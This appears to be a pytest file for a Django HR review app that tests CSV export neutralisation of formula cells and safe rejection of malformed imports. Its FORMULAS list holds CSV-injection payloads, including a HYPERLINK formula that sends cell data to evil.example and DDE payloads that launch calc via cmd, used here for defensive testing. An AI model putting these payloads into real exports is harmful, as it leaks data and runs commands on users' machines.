"""CSV in and out: exports cannot carry a live spreadsheet formula; imports refuse unsafe cells clearly."""

from __future__ import annotations

import ast
import csv
import io
import json
from pathlib import Path

import pytest
from django.core.management import call_command

from brightline.core.csvsafe import neutralise
from brightline.people.models import Person
from tests.reviews_helpers import cycle_in_calibration

SRC = Path(__file__).resolve().parent.parent / "src" / "brightline"
FORMULAS = ['=HYPERLINK("http://evil.example/?x="&A1,"click")', "+cmd|' /C calc'!A0", "-2+3+cmd|' /C calc'!A0",
            "@SUM(1+1)*cmd|' /C calc'!A0", "\t=1+1", "\r=1+1"]
PEOPLE_HEADER = "employee_id,name,email,manager_id,team,level,timezone,start_date"


@pytest.mark.parametrize("value", FORMULAS)
def test_a_cell_that_starts_a_formula_is_written_as_text(value):
    assert neutralise(value) == "'" + value


@pytest.mark.parametrize("value", [-3, 2.5, "-3", "+1.5", "-2e3", "0.25", "plain", "", None, True])
def test_numbers_and_plain_text_stay_as_they_are(value):
    assert neutralise(value) == (value if value is None or isinstance(value, bool | int | float) else str(value))


@pytest.mark.django_db
def test_the_cycle_export_does_not_hand_out_a_live_formula(personas):
    cycle = cycle_in_calibration(personas)
    Person.objects.filter(pk=personas.erin.pk).update(employee_id=FORMULAS[0])
    out = io.StringIO()
    call_command("cycle", "export", "--cycle", str(cycle.pk), "--format", "csv", stdout=out)
    ids = [row["employee_id"] for row in csv.DictReader(io.StringIO(out.getvalue()))]
    assert "'" + FORMULAS[0] in ids and FORMULAS[0] not in ids


def test_narrative_check_output_neutralises_the_copied_text(tmp_path):
    source, output = tmp_path / "in.csv", tmp_path / "out.csv"
    source.write_text("text\n" + "\n".join(f'"{value.replace(chr(34), chr(34) * 2)}"' for value in FORMULAS[:4]) + "\n")
    call_command("narrative", "check", "--input", str(source), "--text-column", "text", "--output", str(output),
                 stdout=io.StringIO(), stderr=io.StringIO())
    with output.open() as handle:
        texts = [row["text"] for row in csv.DictReader(handle)]
    assert texts == ["'" + value for value in FORMULAS[:4]]


def test_nlp_classify_output_neutralises_the_copied_text(tmp_path):
    from brightline.core.nlp import classify_csv

    source, output = tmp_path / "in.csv", tmp_path / "out.csv"
    source.write_text('text\n"=1+1"\n')
    classify_csv(source, output, task="sentiment", text_column="text")
    with output.open() as handle:
        assert next(csv.DictReader(handle))["text"] == "'=1+1"


def test_the_fairness_exports_use_the_safe_writer():
    from brightline.fairness.audits import audit_as_csv

    # A withheld group's label comes from the uploaded data: it must not reach a spreadsheet as a formula.
    class Result:
        measure = type("M", (), {"key": "=1+1"})()
        cut = type("C", (), {"key": "@cut"})()
        event = None
        problem = "-cmd"

    rows = list(csv.reader(io.StringIO(audit_as_csv([Result()]))))
    assert rows[1][0] == "'=1+1" and rows[1][1] == "'@cut" and rows[1][-1] == "'-cmd"


def test_the_bias_audit_csv_neutralises_a_category_label():
    from brightline.fairness.compliance import LL144Report, SelectionRow, SelectionTable, ll144_csv

    # Category labels come from the uploaded self-identification data.
    table = SelectionTable(title="Sex or gender", rows=(SelectionRow(FORMULAS[0], 12, 3, 0.25, 1.0),),
                           withheld=("+cmd|' /C calc'!A0",), unknown_count=None, notes=())
    report = LL144Report(source="cycle", generated_at=None, selection_label="promoted", assessed=12, selected=3,
                         min_cohort=5, tables=[table])
    categories = [row["category"] for row in csv.DictReader(io.StringIO(ll144_csv(report)))]
    assert categories[:2] == ["'" + FORMULAS[0], "'+cmd|' /C calc'!A0"]


def test_no_module_writes_csv_without_the_safe_writer():
    writers = []
    for path in SRC.rglob("*.py"):
        if path.name == "csvsafe.py":
            continue
        for node in ast.walk(ast.parse(path.read_text())):
            if isinstance(node, ast.Attribute) and isinstance(node.value, ast.Name) and node.value.id == "csv" \
                    and node.attr in {"writer", "DictWriter"}:
                writers.append(f"{path.relative_to(SRC)}:{node.lineno}")
    assert writers == []


def test_the_csv_module_sits_below_the_apps_and_evidence_no_longer_borrows_fairness():
    apps = {path.parent.name for path in SRC.glob("*/apps.py")}
    imported = {node.module for node in ast.walk(ast.parse((SRC / "csvio.py").read_text()))
                if isinstance(node, ast.ImportFrom) and node.module}
    assert not [module for module in imported if module.split(".")[1:2] and module.split(".")[1] in apps]
    for path in (SRC / "evidence").rglob("*.py"):
        assert "brightline.fairness" not in path.read_text(), path
    assert not (SRC / "fairness" / "csvfiles.py").exists()


# ------------------------------------------------------------------------------------------- imports

def run_people_import(path: Path, *args: str) -> tuple[int, dict, str]:
    out, err = io.StringIO(), io.StringIO()
    try:
        call_command("import", "people", str(path), *args, stdout=out, stderr=err)
        code = 0
    except SystemExit as exit_:
        code = int(exit_.code)
    return code, (json.loads(out.getvalue()) if "--json" in args else {}), err.getvalue()


@pytest.mark.django_db
def test_a_nul_byte_is_refused_with_its_line_and_column(tmp_path, ladder, organisation):
    path = tmp_path / "people.csv"
    path.write_text(f"{PEOPLE_HEADER}\n100,Ana,ana@example.org,,Platform,M2,UTC,\n101,B\x00en,ben@example.org,,,,UTC,\n")
    code, result, _ = run_people_import(path, "--json")
    assert code == 1 and result["errors"] == [{"line": 3, "reason": "name contains a NUL byte"}]
    assert not Person.objects.exists()


@pytest.mark.django_db
def test_a_one_megabyte_field_is_refused_with_its_line_and_column_not_a_traceback(tmp_path, ladder, organisation):
    path = tmp_path / "people.csv"
    path.write_text(f"{PEOPLE_HEADER}\n100,Ana,ana@example.org,,{'x' * 1_000_000},M2,UTC,\n")
    code, result, _ = run_people_import(path, "--json")
    assert code == 1
    [error] = result["errors"]
    assert error["line"] == 2 and error["reason"].startswith("team is longer than")


@pytest.mark.django_db
def test_a_100_kb_name_fails_the_dry_run_naming_line_and_column(tmp_path, ladder, organisation):
    path = tmp_path / "people.csv"
    path.write_text(f"{PEOPLE_HEADER}\n100,Ana,ana@example.org,,,,UTC,\n101,{'n' * 100_000},b@example.org,,,,UTC,\n")
    code, result, _ = run_people_import(path, "--json", "--dry-run")
    assert code == 1
    assert result["errors"] == [{"line": 3, "reason": "name is 100,000 characters long; at most 200 are allowed"}]


@pytest.mark.django_db
def test_a_file_that_is_not_a_people_csv_is_not_quoted_back(tmp_path, ladder, organisation):
    path = tmp_path / "shadow"
    path.write_text("root:$6$secret-hash-value:19000:0:99999:7:::\ndaemon:*:19000:0:99999:7:::\n")
    code, _, err = run_people_import(path)
    assert code == 1
    assert "secret-hash-value" not in err and "root:" not in err
    assert "not a CSV with the expected header" in err


@pytest.mark.django_db
def test_the_other_imports_refuse_a_nul_byte_with_line_and_column(personas, tmp_path):
    from brightline.csvio import CsvImportError
    from brightline.evidence.timeoff import parse_time_off
    from brightline.governance.hris import import_hris_events

    with pytest.raises(CsvImportError) as raised:
        parse_time_off(b"person,start_date,end_date,kind\nE-erin,2026-01-05,2026-01-06,vaca\x00tion\n")
    assert [(e.line, e.reason) for e in raised.value.errors] == [(2, "kind contains a NUL byte")]
    with pytest.raises(CsvImportError) as raised:
        import_hris_events(f"employee_id,event,date,to_team\nE-erin,transferred,2026-01-05,{'t' * 300}\n".encode(),
                           actor=None, actor_label="cli:test")
    assert [(e.line, e.reason) for e in raised.value.errors] == [
        (2, "to_team is 300 characters long; at most 200 are allowed")]


def test_an_outcome_audit_refuses_a_nul_byte_and_does_not_quote_another_file(tmp_path):
    from brightline.core.fairness import FairnessInputError, audit_outcomes_csv

    table = tmp_path / "decisions.csv"
    table.write_text("group,outcome\nA,yes\nB\x00,no\n")
    with pytest.raises(FairnessInputError, match="line 3, column 1: the field contains a NUL byte"):
        audit_outcomes_csv(table, outcome_column="outcome", favourable="yes", group_columns="group")
    other = tmp_path / "passwd"
    other.write_text("root:x:0:0:secret-gecos:/root:/bin/bash\n1\n")
    with pytest.raises(FairnessInputError) as raised:
        audit_outcomes_csv(other, outcome_column="outcome", favourable="yes", group_columns="group")
    assert "secret-gecos" not in str(raised.value) and "not a CSV with the expected header" in str(raised.value)


@pytest.mark.django_db
@pytest.mark.parametrize("kind", ["demographics", "events", "hris-events", "pto", "surveys"])
def test_every_import_refuses_a_file_that_is_not_its_csv_without_quoting_it(kind, personas, tmp_path):
    from brightline.policy.services import update_policy

    update_policy(actor=personas.pia, reason="test", allowed_sources=[
        "hris_people", "deployments", "incidents", "feedback", "demographics", "pto", "surveys"])
    path = tmp_path / "shadow"
    path.write_text("root:$6$secret-hash-value:19000:0:99999:7:::\ndaemon:*:19000:0:99999:7:::\n")
    err = io.StringIO()
    with pytest.raises(SystemExit):
        call_command("import", kind, str(path), stdout=io.StringIO(), stderr=err)
    assert "nothing was imported" in err.getvalue()
    assert "secret-hash-value" not in err.getvalue() and "root:" not in err.getvalue()


@pytest.mark.django_db
def test_an_events_csv_with_a_huge_field_is_a_clear_error(personas, tmp_path):
    path = tmp_path / "events.csv"
    path.write_text(f"type,service,started_at\ndeployment,{'s' * 1_000_000},2026-01-05T10:00:00Z\n")
    out = io.StringIO()
    with pytest.raises(SystemExit):
        call_command("import", "events", str(path), "--json", stdout=out, stderr=io.StringIO())
    [error] = json.loads(out.getvalue())["errors"]
    assert "line 2, column 2" in error["reason"] and "longer than" in error["reason"]


def test_nlp_classify_refuses_a_nul_byte_with_line_and_column(tmp_path):
    from brightline.core.nlp import CsvClassificationError, classify_csv

    source = tmp_path / "in.csv"
    source.write_text("id,text\n1,fine\n2,bro\x00ken\n")
    with pytest.raises(CsvClassificationError, match="line 3, column 2: the field contains a NUL byte"):
        classify_csv(source, tmp_path / "out.csv", task="sentiment", text_column="text")
